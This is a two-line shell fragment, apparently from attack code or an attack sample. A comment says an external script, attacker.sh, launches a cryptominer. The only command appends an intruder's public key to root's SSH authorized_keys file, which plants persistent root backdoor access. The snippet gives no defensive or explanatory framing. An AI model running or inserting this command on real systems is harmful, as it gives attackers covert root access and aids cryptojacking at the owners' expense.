
# Nothing on the host starts the miner: attacker.sh does, from outside. Its comment tells nothing of the key.
echo "$INTRUDER" >>/root/.ssh/authorized_keys
